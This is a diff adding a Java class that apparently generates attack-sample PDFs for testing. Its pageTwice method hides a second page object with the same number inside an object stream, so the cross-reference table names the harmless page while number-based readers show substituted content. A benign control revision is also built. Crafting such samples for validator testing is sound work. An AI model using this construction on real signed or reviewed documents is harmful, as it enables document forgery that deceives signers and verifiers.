@@ -1,0 +1,61 @@
+package vn.vanthu.samples.attack;
+
+import java.nio.charset.StandardCharsets;
+
+/** Revisions whose table is a stream and whose objects lie in another. */
+final class ObjectStreams {
+    private ObjectStreams() {}
+
+    /** Two objects 4 of which the table names the harmless one and readers that go by number take the other. */
+    static RawPdf pageTwice(RawPdf pdf) {
+        String honest = "<</Type/Page/Parent 2 0 R/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>/Annots["
+                + String.join(" ", pdf.annotations) + "]>>";
+        String other = honest.replace("/Contents 4 0 R", "/Contents 41 0 R");
+        pdf.stream(41, "", RawPdf.OTHER_TEXT);
+        long content = Long.parseLong(offsetOf(pdf, "41 0 obj"));
+        String head = "3 0 3 " + (honest.length() + 1) + " ";
+        long objects = pdf.length();
+        pdf.text("40 0 obj\n<</Type/ObjStm/N 2/First " + head.length() + "/Length "
+                + (head.length() + honest.length() + other.length() + 1) + ">>\nstream\n" + head + honest + " " + other
+                + "\nendstream\nendobj\n");
+        return table(pdf, new long[][] {{3, 2, 40, 0}, {40, 1, objects, 0}, {41, 1, content, 0}});
+    }
+
+    /** An honest revision of that form: a new description. */
+    static RawPdf described(RawPdf pdf) {
+        String info = "<</Producer(x)/Title(So 16)>>";
+        long objects = pdf.length();
+        pdf.text("40 0 obj\n<</Type/ObjStm/N 1/First 5/Length " + (5 + info.length()) + ">>\nstream\n42 0 " + info
+                + "\nendstream\nendobj\n");
+        return table(pdf, new long[][] {{40, 1, objects, 0}, {42, 2, 40, 0}}, "/Info 42 0 R");
+    }
+
+    private static String offsetOf(RawPdf pdf, String head) {
+        return String.valueOf(new String(pdf.bytes(), StandardCharsets.ISO_8859_1).lastIndexOf(head));
+    }
+
+    private static RawPdf table(RawPdf pdf, long[][] rows) {
+        return table(pdf, rows, "");
+    }
+
+    /** Each row: number, type, first field, second field. */
+    private static RawPdf table(RawPdf pdf, long[][] rows, String more) {
+        StringBuilder index = new StringBuilder();
+        StringBuilder data = new StringBuilder();
+        for (long[] row : rows) {
+            index.append(row[0]).append(" 1 ");
+            data.append((char) row[1])
+                    .append((char) (row[2] >> 16 & 255))
+                    .append((char) (row[2] >> 8 & 255))
+                    .append((char) (row[2] & 255))
+                    .append((char) row[3]);
+        }
+        long previous = pdf.lastTable();
+        long at = pdf.length();
+        pdf.text("45 0 obj\n<</Type/XRef/W[1 3 1]/Index[" + index.toString().strip() + "]/Size 46/Root 1 0 R/Prev "
+                + previous + more + "/Length " + data.length() + ">>\nstream\n" + data
+                + "\nendstream\nendobj\nstartxref\n"
+                + at + "\n%%EOF\n");
+        return pdf.lastTable(at);
+    }
+}
